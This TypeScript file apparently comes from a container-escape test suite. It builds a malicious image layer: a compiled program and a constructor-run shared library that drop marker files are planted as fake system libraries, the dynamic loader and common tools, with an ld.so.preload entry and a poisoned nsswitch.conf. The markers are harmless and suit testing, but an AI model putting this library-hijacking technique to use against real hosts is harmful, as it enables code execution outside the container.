import { readFileSync } from 'node:fs';
import { compile } from './attack-program.ts';
import { archive, dir, file } from './tar-bytes.ts';

/** Leaves a file behind whoever runs it, and wherever: beneath its root, and at a path of the host. */
const touch = (marker: string): string => `
#include <fcntl.h>
#include <unistd.h>
static void leave(void) {
  close(open("/pwned", O_WRONLY | O_CREAT, 0644));
  close(open("${marker}", O_WRONLY | O_CREAT, 0644));
}`;

/** A program that leaves /pwned and `marker`. */
export const evilProgram = (marker: string): string =>
  compile(`${touch(marker)}\nint main(void) { leave(); return 0; }`);

/** A library that does so when it is loaded. */
export const evilLibrary = (marker: string): string =>
  compile(
    `${touch(marker)}\n__attribute__((constructor)) static void loaded(void) { leave(); }`,
    '-shared',
    '-fPIC',
  );

const LIBRARIES = [
  'libc.so.6',
  'libm.so.6',
  'libdl.so.2',
  'libnss_files.so.2',
  'libnss_compat.so.2',
  'libnss_dns.so.2',
  'libz.so.1',
];
const PROGRAMS = [
  'ps',
  'tar',
  'gzip',
  'gunzip',
  'unpigz',
  'xz',
  'zstd',
  'bzip2',
  'sh2',
  'node',
  'getent',
  'nsenter',
  'newuidmap',
  'fuse-overlayfs',
  'slirp4netns',
];

/**
 * A layer whose programs and libraries leave a mark when something runs or loads them: all that has been taken from a container's root by
 * tools that looked into it from outside. Over busybox: /bin/sh and what is not listed go on to work.
 */
export function evilLayer(marker: string): Buffer {
  const program = readFileSync(evilProgram(marker));
  const library = readFileSync(evilLibrary(marker));
  const places = ['lib/x86_64-linux-gnu', 'lib/aarch64-linux-gnu', 'lib64', 'usr/lib/x86_64-linux-gnu'];
  return archive(
    ...places.map(place => dir(`${place}/`)),
    ...places.flatMap(place => LIBRARIES.map(name => file(`${place}/${name}`, library, { mode: 0o755 }))),
    file('lib64/ld-linux-x86-64.so.2', program, { mode: 0o755 }),
    file('evil.so', library, { mode: 0o755 }),
    ...['usr/bin', 'usr/sbin'].flatMap(place =>
      PROGRAMS.map(name => file(`${place}/${name}`, program, { mode: 0o755 })),
    ),
    file('etc/ld.so.preload', '/evil.so\n'),
    file('etc/nsswitch.conf', 'passwd: files evil\nhosts: files evil\n'),
  );
}
